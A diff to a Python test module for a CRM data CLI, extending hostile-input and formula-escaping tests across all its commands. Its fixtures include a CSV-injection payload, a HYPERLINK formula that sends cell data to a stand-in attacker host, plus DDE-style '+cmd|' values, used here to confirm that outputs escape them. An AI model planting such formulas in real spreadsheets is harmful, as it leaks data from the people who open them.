@@ -1,5 +1,21 @@
 """Hostile input: the corpus (tests/corpus.py) and the public CSV/XLSX suites, read by the library
-and run through ``crm inspect`` and ``crm clean`` (CSV and xlsx output).
+and run through every command: ``inspect``, ``clean`` (CSV and xlsx output), ``validate``,
+``dedupe``, ``rfm``, ``metrics``, ``pivot`` (``--rows`` on the first column) and ``report``.
+
+Every file goes through every command, except the two slowest readers' files
+(``columns_16384.csv`` and ``styled_empty_rows_1m.xlsx``, ~1-5 s per command), which only
+``inspect``, ``clean-csv``/``clean-xlsx`` (see ``SWEEP_SKIP``) and the memory test run; the reader
+path they stress is the same for every command. Files the reader must refuse must be refused with
+exit 3 by every command; files it must read must never end in exit 3.
+
+Exit codes per command (DESIGN.md: 1 = the data fails, 2 = the call is wrong):
+
+- ``validate``: 0, or 1 when the data has errors (``--fail-on error``, the default);
+- ``dedupe``: 0, or 2 when no column maps to a compared field (hint: ``--on COLUMN:KIND``);
+- ``rfm`` / ``metrics`` / ``report``: 2 when the table has no order date / amount / customer column
+  (a missing column is a usage error; the hint names ``--map FIELD=COLUMN`` and the columns), 1 when
+  the columns are there but no row is a usable order (every date or amount invalid);
+- ``pivot``: 0 (any column can be a row field).
 
 A table of every file's outcome is printed at the end of the run (see conftest.py). To add a
 command to the sweep, add an entry to ``COMMANDS``: ``label -> (args_builder, allowed exit codes,
@@ -22,6 +38,7 @@ from crmcli.io import read_table, source_info
 from crmcli.schema import map_columns
 from tests.conftest import PUBLIC, ROOT
 from tests.corpus import Case, build_corpus, cases
+from tests import hostile
 from tests.hostile import check_command, run_cli
 
 SPECIAL = ["a_directory.csv", "unreadable.csv", "missing.csv", "loop.csv", "dev_zero"]
@@ -52,6 +69,10 @@ OUTPUT_LIMITS = {("cell_1mib.csv", "clean-xlsx"): 4, ("line_150kib.csv", "clean-
 #: Left out of the command sweep to keep the suite fast: clean's per-column summary (issue 3) takes
 #: ~6 s per output on 16,384 columns; the reader and inspect still cover that file.
 SWEEP_SKIP = {("columns_16384.csv", "clean-csv"), ("columns_16384.csv", "clean-xlsx")}
+#: The commands added after inspect/clean skip the two slowest files (see the module docstring).
+HEAVY_FILES = ("columns_16384.csv", "styled_empty_rows_1m.xlsx")
+NEW_COMMANDS = ("validate", "dedupe", "rfm", "metrics", "pivot", "report")
+SWEEP_SKIP |= {(f, c) for f in HEAVY_FILES for c in NEW_COMMANDS}
 
 
 @pytest.fixture(scope="session")
@@ -131,7 +152,27 @@ COMMANDS = {
                                           "-q", *_opts(case)], (0, 3), True),
     "clean-xlsx": (lambda case, src, out: ["clean", src, "-o", out / "cleaned.xlsx", "-q", *_opts(case)],
                    (0, 3), True),
+    "validate": (lambda case, src, out: ["validate", src, "--issues", out / "issues.csv", "-q", *_opts(case)],
+                 (0, 1, 3), False),
+    "dedupe": (lambda case, src, out: ["dedupe", src, "-o", out / "deduped.csv", "--clusters", out / "clusters.xlsx",
+                                       "-q", *_opts(case)], (0, 2, 3), False),
+    "rfm": (lambda case, src, out: ["rfm", src, "-o", out / "rfm.xlsx", "-q", *_opts(case)], (0, 1, 2, 3), False),
+    "metrics": (lambda case, src, out: ["metrics", src, "-o", out / "metrics.csv", "-q", *_opts(case)],
+                (0, 1, 2, 3), False),
+    "pivot": (lambda case, src, out: ["pivot", src, "--rows", _first_column(case), "-o", out / "pivot.csv", "-q",
+                                      *_opts(case)], (0, 3), False),
+    # report has no --encoding: files that need one are refused like any undecodable input
+    "report": (lambda case, src, out: ["report", src, "-o", out / "report.xlsx", "-q"], (0, 1, 2, 3), False),
 }
+
+
+def _first_column(case: Case) -> str:
+    """The first header of the file as read (any name when it cannot be read: the command refuses it anyway)."""
+    try:
+        cols = list(_read(case).columns)
+    except CrmError:
+        return "x"
+    return str(cols[0]) if cols else "x"
 
 
 @pytest.mark.parametrize("name", ALL_NAMES)
@@ -143,6 +184,11 @@ def test_command(corpus, tmp_path, command, name):
     build, allowed, aligned = COMMANDS[command]
     extra = OUTPUT_LIMITS.get((name, command))
     expect_code = {"read": 0, "error": 3}.get(case.expect) if extra is None else extra
+    if command in NEW_COMMANDS and extra is None:
+        # a file the reader must refuse: exit 3; one it must read: any allowed code but 3
+        expect_code = 3 if case.expect == "error" else None
+        if case.expect == "read" and not (command == "report" and "encoding" in case.options):
+            allowed = tuple(c for c in allowed if c != 3)
     reference = exact = None
     if aligned and case.expect != "error":
         try:
@@ -248,3 +294,69 @@ def test_fuzz_clean_and_inspect_from_stdin(tmp_path, head, rows, fmt):
         from tests.hostile import assert_no_live_formula
 
         assert_no_live_formula(out)
+
+
+# --------------------------------------------------------------------------- formula escaping, every output
+
+_FORMULA_RUNS = {
+    "validate": lambda src, o, x: ["validate", src, "--issues", o / f"issues.{x}", "--fail-on", "never"],
+    "clean": lambda src, o, x: ["clean", src, "-o", o / f"cleaned.{x}", "--issues", o / f"issues.{x}"],
+    "dedupe": lambda src, o, x: ["dedupe", src, "-o", o / f"deduped.{x}", "--clusters", o / f"clusters.{x}",
+                                 "--pairs", o / f"pairs.{x}", "--review", o / f"review.{x}", "--threshold", "0.5"],
+    "rfm": lambda src, o, x: ["rfm", src, "-o", o / f"rfm.{x}"],
+    "metrics-group": lambda src, o, x: ["metrics", src, "-o", o / f"metrics.{x}", "--group", "产品"],
+    "metrics-cohorts": lambda src, o, x: ["metrics", src, "-o", o / f"kpis.{x}", "--by", "month",
+                                          "--cohorts", o / f"cohorts.{x}"],
+    "pivot": lambda src, o, x: ["pivot", src, "--rows", "产品,客户名称", "--cols", "渠道", "--values", "金额",
+                                "-o", o / f"pivot.{x}"],
+    "pivot-ids": lambda src, o, x: ["pivot", src, "--rows", "订单号", "--values", "金额", "--agg", "max",
+                                    "-o", o / f"pivot_ids.{x}"],
+    "report": lambda src, o, x: ["report", src, "--customers", src, "-o", o / "report.xlsx"],
+}
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+@pytest.mark.parametrize("source", ["orders_hostile.csv", "orders_hostile.xlsx"])
+@pytest.mark.parametrize("command", list(_FORMULA_RUNS))
+def test_no_live_formula_in_any_output(corpus, tmp_path, command, source, fmt):
+    """Customers named =HYPERLINK(…), products @SUM(A1), channels +cmd|…/-2+3/=A1, an order id =1+1: every
+    command's every output (CSV escaped with a leading ', xlsx as text cells) holds no live formula, and
+    the hostile names reach the outputs (escaped) rather than being dropped."""
+    from tests.hostile import assert_no_live_formula, csv_cells
+
+    if command == "report" and fmt == "csv":
+        pytest.skip("report writes a workbook only")
+    case = corpus[source]
+    out = tmp_path / "out"
+    res = check_command(lambda src, o: _FORMULA_RUNS[command](src, o, fmt), case.path, out,
+                        label=f"formula:{command}", allowed=(0,), expect_code=0)
+    hostile.OUTCOMES.pop()  # not a sweep column: keep the outcome table one column per swept command
+    written = sorted(p for p in out.iterdir() if p.is_file())
+    assert written, res.stderr
+    for path in written:
+        assert_no_live_formula(path)
+    if command in ("dedupe", "clean", "pivot", "metrics-group"):
+        first = written[0] if command != "dedupe" else out / f"deduped.{fmt}"
+        if fmt == "csv":
+            text = {v for row in csv_cells(first) for v in row}
+            want = {"clean": "'" + HYPER_NAME, "dedupe": "'" + HYPER_NAME, "pivot": "'@SUM(A1)",
+                    "metrics-group": "'@SUM(A1)"}[command]
+            assert want in text, f"{first.name}: {want!r} missing"
+
+
+@pytest.mark.parametrize("command", ["rfm", "dedupe", "pivot", "validate"])
+def test_no_live_formula_on_stdout(corpus, command):
+    """`-o -` (CSV on stdout) escapes formula-looking text too."""
+    from crmcli.io import is_formula_like
+
+    src = corpus["orders_hostile.csv"].path
+    args = {"rfm": ["rfm", src, "-o", "-", "-q"], "dedupe": ["dedupe", src, "-o", "-", "-q"],
+            "pivot": ["pivot", src, "--rows", "产品", "-o", "-", "-q"],
+            "validate": ["validate", src, "-o", "-", "--fail-on", "never", "-q"]}[command]
+    res = run_cli(args)
+    assert res.exit_code == 0, res.stderr
+    cells = [v for row in csv.reader(io.StringIO(res.stdout)) for v in row]
+    assert cells and not [v for v in cells if is_formula_like(v)]
+
+
+HYPER_NAME = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
